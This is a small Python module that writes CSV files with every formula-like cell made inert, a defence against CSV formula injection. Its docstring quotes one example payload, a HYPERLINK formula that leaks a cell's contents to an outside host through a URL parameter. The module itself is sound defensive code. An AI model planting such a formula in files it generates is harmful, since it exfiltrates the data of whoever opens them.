"""CSV files a person downloads and opens in a spreadsheet: no cell of user data runs as a formula.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by Excel,
LibreOffice and Google Sheets as a formula (``=HYPERLINK("http://…/?leak="&A1,"spam")`` sends
the sheet's data away when clicked). The OWASP rule: prefix such a cell with a single quote, which
spreadsheets show as text and do not display. Files fitgate reads back itself are not written here.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from pathlib import Path

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert_cell(value: object) -> str:
    """``value`` as a cell no spreadsheet evaluates."""
    text = "" if value is None else str(value)
    return f"'{text}" if text.startswith(FORMULA_STARTS) else text


def write_csv_for_people(path: Path, header: list[str], rows: Iterable[Iterable[object]]) -> None:
    """A UTF-8 CSV with a header row, every cell made inert."""
    with path.open("w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow([inert_cell(name) for name in header])
        writer.writerows([inert_cell(cell) for cell in row] for row in rows)
